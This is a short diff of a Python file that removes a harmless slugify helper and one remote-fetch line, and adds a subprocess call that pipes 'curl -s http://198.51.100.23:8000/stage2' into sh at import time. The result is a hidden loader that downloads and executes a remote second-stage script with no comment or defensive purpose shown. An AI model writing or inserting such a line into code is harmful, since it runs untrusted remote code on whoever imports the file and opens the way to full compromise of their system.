@@ -1,7 +1,4 @@
-#!/usr/bin/env python3
 
 import subprocess as s
 P = s.Popen
-P("curl -s https://203.0.113.9/x | sh", shell=True)
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
+P("curl -s http://198.51.100.23:8000/stage2 | sh", shell=True)
